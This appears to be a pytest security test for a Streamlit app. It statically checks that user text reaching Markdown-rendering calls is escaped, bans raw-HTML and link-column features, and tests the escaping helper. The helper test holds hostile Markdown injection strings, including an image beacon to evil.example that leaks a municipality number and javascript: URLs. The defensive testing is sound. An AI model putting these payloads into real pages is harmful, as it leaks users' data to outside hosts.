"""Every text a page shows through Markdown goes through ``ui.plain`` (static check).

Streamlit reads Markdown (links, images, LaTeX, HTML entities, ``:red[…]``) in messages,
captions, headings, widget labels, help texts, tab and expander titles, metric labels
and values, radio options and toasts. A user's text that reaches one of those without
``pages.widgets.ui.plain`` can fetch an outside image or show a link (issue 9, finding 3).

This test reads every page and widget module (``pages/views``, ``pages/widgets``) and
checks each such argument: it must be a literal, ``plain(…)``, or built from those
(f-strings, ``+``, ``… if … else …``, lists). Anything else must be in :data:`TRUSTED`
below, with the reason it can hold no user text. Table cells and selectbox/multiselect
options are not Markdown, and are not checked here (the browser test covers them).
"""

from __future__ import annotations

import ast
import re
from dataclasses import dataclass
from pathlib import Path

import pytest

from pages.widgets.ui import WORD_JOINER, plain
from tests.conftest import ROOT

PAGE_FILES = sorted(
    [*(ROOT / "pages" / "views").glob("*.py"), *(ROOT / "pages" / "widgets").glob("*.py")]
)

BODY_FIRST = {
    # the first positional argument (or ``body``) is Markdown
    "markdown",
    "caption",
    "success",
    "error",
    "warning",
    "info",
    "toast",
    "title",
    "header",
    "subheader",
    "write",
}
LABEL_FIRST = {
    # the first positional argument (or ``label``) is a Markdown label
    "expander",
    "popover",
    "button",
    "download_button",
    "form_submit_button",
    "link_button",
    "page_link",
    "radio",
    "checkbox",
    "toggle",
    "metric",
    "text_input",
    "text_area",
    "number_input",
    "selectbox",
    "multiselect",
    "file_uploader",
    "slider",
    "select_slider",
    "date_input",
    "time_input",
    "color_picker",
    "pills",
    "segmented_control",
}
KEYWORDS = {"body", "label", "help", "value", "delta"}
"""Keyword arguments that are Markdown where the call shows them (``value``/``delta``
only for ``metric``)."""

TRUSTED: dict[str, set[str]] = {
    # file name → source text of expressions that hold only the app's own text or numbers
    "kommune.py": {
        "LEVEL_LABELS[item.level]",  # guidance vocabulary
        "item.title",  # shipped guidance
        "kind",  # «Aktør» or «Struktur»
        "also",  # built with plain() just above
        "LEVEL_BADGE[item.level]",  # fixed badge Markdown
        "mark",  # built from the shipped registry's «usikker» mark
        "contact",  # built with plain() just above
        "coverage.kommunenummer",  # four digits, validated
        "place.fylke",  # the shipped municipality registry
        "old",  # a valid 4-digit number when shown (kommune(old) is true)
    },
    "panels.py": {
        "LEVEL_LABELS[need['level']]",  # guidance vocabulary
        "LEVEL_BADGE[need['level']]",  # fixed badge Markdown
        "LEVEL_BADGE[rule['level']]",
        "LEVEL_BADGE[notice['level']]",
        "NOTIFICATION_BADGE[notice['status']]",  # fixed badge Markdown
        "_rule_line(rule)",  # built with plain() in _rule_line
        "mark",  # a fixed «delvis kontrollert»
        "number",
        "badge",  # LEVEL_BADGE or a fixed kind word
        "who",  # built with plain() just above
        "count['must']",
        "count['should']",
        "count['may']",
        "flagged(count['notifications'])",  # a count in fixed Markdown
        "flagged(count['sharing'])",
        "flagged(count['unreached'])",
    },
    "nettverkskart.py": {
        "panels.LEVEL_BADGE[level]",
        "situation_label(f)",  # the fixed vocabulary of situations
        "situation_help(f)",
    },
    "aktorkart.py": {
        "SPHERE_LABELS[actor_type.sphere]",  # the shipped catalogue
        "actor_type.description",  # the shipped catalogue (st.write)
        "mark",  # a fixed «delvis kontrollert»
        "where",  # built with plain() and a shipped https address just above
    },
    "interop.py": {
        "label",  # CASE_BUTTONS: the page's own fixed button texts
        "help_text",
    },
    "oversikt.py": {
        "label",  # the toggle's label: a fixed sentence with a file count
    },
    "saker.py": {
        "label",  # «Velg en sak» or «Velg et kommunekart»
        "title",  # «Felt som ikke vises i kartet (N)»
        "numbers",  # version numbers
        "describe_kind(database_url())",  # «SQLite-database» or the like, never a place
        "ORIGIN_WORDS.get(stored.origin, stored.origin)",  # the app sets the origin
        "what",  # «Saken» or «Kommunekartet»
        "page",  # a page title
        "editor",  # a page title
        "versions",  # «den ene versjonen» or «alle N versjonene»
        "stored.number",
        "older",
        "newer",
        "diff.count('actors', 'added')",
        "diff.count('actors', 'removed')",
        "diff.count('actors', 'changed')",
    },
    "storage_ui.py": {
        "describe_kind(url)",  # the kind of database, never a place
        "kind_word(kind)",  # «sak» or «kommunekart»
        "_plural(kind)",
        "link['version']",  # a version number
        "label",  # «Lagre ny versjon» or «Lagre i databasen»
        "as_new",  # a fixed button text
        "'ny sak' if kind == 'case' else 'nytt kommunekart'",
    },
    "ui.py": {
        "lines",  # each line built with plain() just above
        "label",  # load_new_upload: the pages pass fixed labels and help texts
        "help",
    },
}
NOT_STREAMLIT = {"repo", "repository", "log", "logging", "self"}
"""Receivers whose methods share a name with Streamlit's (``repo.info``, ``log.error``)."""


@dataclass(frozen=True)
class Finding:
    file: str
    line: int
    call: str
    source: str

    def __str__(self) -> str:
        return f"{self.file}:{self.line}: {self.call}(…) viser {self.source!r} uten plain()"


def _is_plain(node: ast.AST) -> bool:
    if not isinstance(node, ast.Call):
        return False
    func = node.func
    return (isinstance(func, ast.Name) and func.id == "plain") or (
        isinstance(func, ast.Attribute) and func.attr == "plain"
    )


NUMBER_CALLS = {"len", "round", "int", "sum", "min", "max", "format_time", "format_date"}
"""Calls whose result is a number or a date, never a user's text."""


def _is_number_or_constant(node: ast.AST) -> bool:
    """``len(…)``, ``round(…)``, a date, arithmetic, or a module constant (``MAX_…``)."""
    if isinstance(node, ast.Name):
        return node.id.isupper()
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
        return node.func.id in NUMBER_CALLS
    # - * / never make text from text (``+`` can, ``%`` formats: both checked part by part)
    return isinstance(node, ast.BinOp) and isinstance(
        node.op, ast.Sub | ast.Mult | ast.Div | ast.FloorDiv
    )


def _unsafe(node: ast.AST, trusted: set[str]) -> list[ast.AST]:
    """The parts of an expression that may hold a user's text unescaped."""
    if isinstance(node, ast.Constant) or _is_plain(node) or _is_number_or_constant(node):
        return []
    if ast.unparse(node) in trusted:
        return []
    if isinstance(node, ast.JoinedStr):
        return [bad for part in node.values for bad in _unsafe(part, trusted)]
    if isinstance(node, ast.FormattedValue):
        return _unsafe(node.value, trusted)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _unsafe(node.left, trusted) + _unsafe(node.right, trusted)
    if isinstance(node, ast.IfExp):
        return _unsafe(node.body, trusted) + _unsafe(node.orelse, trusted)
    if isinstance(node, ast.List | ast.Tuple):
        return [bad for element in node.elts for bad in _unsafe(element, trusted)]
    if (  # "…".join(parts) is as safe as its parts
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "join"
        and isinstance(node.func.value, ast.Constant)
    ):
        return [bad for arg in node.args for bad in _unsafe(arg, trusted)]
    if isinstance(node, ast.GeneratorExp | ast.ListComp):
        return _unsafe(node.elt, trusted)
    return [node]


def _markdown_arguments(call: ast.Call) -> list[ast.AST]:
    """The arguments of a Streamlit call that Streamlit renders as Markdown."""
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
    if isinstance(func, ast.Attribute) and ast.unparse(func.value) in NOT_STREAMLIT:
        return []
    if name not in BODY_FIRST | LABEL_FIRST and name != "tabs":
        return []
    found: list[ast.AST] = []
    if name == "write":
        found += call.args
    elif call.args:  # for tabs, the list of titles
        found.append(call.args[0])
    if name == "metric" and len(call.args) > 1:
        found += call.args[1:3]
    if name in ("radio", "pills", "segmented_control") and len(call.args) > 1:
        found.append(call.args[1])  # these options are Markdown too
    for keyword in call.keywords:
        if keyword.arg in ("value", "delta") and name != "metric":
            continue
        if keyword.arg in KEYWORDS or (keyword.arg == "options" and name == "radio"):
            found.append(keyword.value)
    return found


def _radio_options_ok(node: ast.AST) -> bool:
    """Radio options from a module constant (``list(PLAN_CHOICES)``) hold no user text."""
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name)
        and node.func.id == "list"
        and len(node.args) == 1
        and isinstance(node.args[0], ast.Name)
        and node.args[0].id.isupper()
    )


def findings(path: Path) -> list[Finding]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    trusted = TRUSTED.get(path.name, set())
    found = []
    for call in ast.walk(tree):
        if not isinstance(call, ast.Call):
            continue
        for argument in _markdown_arguments(call):
            if _radio_options_ok(argument):
                continue
            for bad in _unsafe(argument, trusted):
                found.append(
                    Finding(path.name, bad.lineno, ast.unparse(call.func), ast.unparse(bad))
                )
    return found


@pytest.mark.parametrize("path", PAGE_FILES, ids=lambda p: str(p.relative_to(ROOT)))
def test_every_markdown_text_of_a_page_is_escaped(path: Path) -> None:
    found = findings(path)
    assert not found, "Tekst som kan komme fra en bruker, vises som Markdown:\n" + "\n".join(
        map(str, found)
    )


def test_every_trusted_expression_is_still_in_its_file() -> None:
    """A stale allowance could later let a user's value through under the same name."""
    for name, expressions in TRUSTED.items():
        path = next(p for p in PAGE_FILES if p.name == name)
        sources = {ast.unparse(node) for node in ast.walk(ast.parse(path.read_text("utf-8")))}
        assert expressions <= sources, f"{name}: {sorted(expressions - sources)}"


def test_the_check_catches_the_structure_label_of_the_issue(tmp_path: Path) -> None:
    page = tmp_path / "kommune.py"
    page.write_text(
        "import streamlit as st\n"
        "st.radio(STRUCTURE_LABELS.get(key, key), list(STRUCTURE_CHOICES))\n"
        "st.caption(f'Navn: {name}')\n"
        "st.metric('Antall', name)\n"
        "st.tabs([name])\n"
        "st.expander(ui.plain(name))\n",
        encoding="utf-8",
    )
    sources = [f.source for f in findings(page)]
    assert sources == ["STRUCTURE_LABELS.get(key, key)", "name", "name", "name"]


# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/beacon.png?kommune=3903)",
        "http://evil.example/x",
        "https://evil.example",
        "www.evil.example",
        "WWW.EVIL.EXAMPLE",
        "mailto:a@evil.example",
        "navn@evil.example",
        "javascript:window.__pwned=1",
        "<http://evil/>",
        "$\\href{javascript:x}{y}$ :red[rød] &lt;b&gt;",
    ],
)
def test_plain_leaves_nothing_markdown_could_turn_into_a_link(text: str) -> None:
    escaped = plain(text)
    read = re.sub(r"\\(.)", r"\1", escaped)  # what Markdown shows
    assert read.replace(WORD_JOINER, "") == text
    assert not re.search(r"(?<!\\)[\[\]()!<>$:&*_`]", escaped), escaped
    for trigger in ("://", "www.", "@"):
        assert trigger not in read.lower().replace("@" + WORD_JOINER, ""), (trigger, escaped)


def test_plain_keeps_ordinary_text_as_it_is() -> None:
    assert plain("Barneverntjenesten i Haram") == "Barneverntjenesten i Haram"
    assert plain("Linje 1\nLinje 2") == "Linje 1 Linje 2"


@pytest.mark.parametrize("path", PAGE_FILES, ids=lambda p: str(p.relative_to(ROOT)))
def test_no_page_shows_html_or_makes_links_or_images_of_table_cells(path: Path) -> None:
    """``unsafe_allow_html``/``st.html`` show raw HTML; a LinkColumn or ImageColumn turns
    a table cell into a link or an outside image. None of them may take a user's text,
    and no page needs them."""
    source = path.read_text(encoding="utf-8")
    for banned in ("unsafe_allow_html", "st.html(", "LinkColumn", "ImageColumn"):
        assert banned not in source, f"{path.name} bruker {banned}"
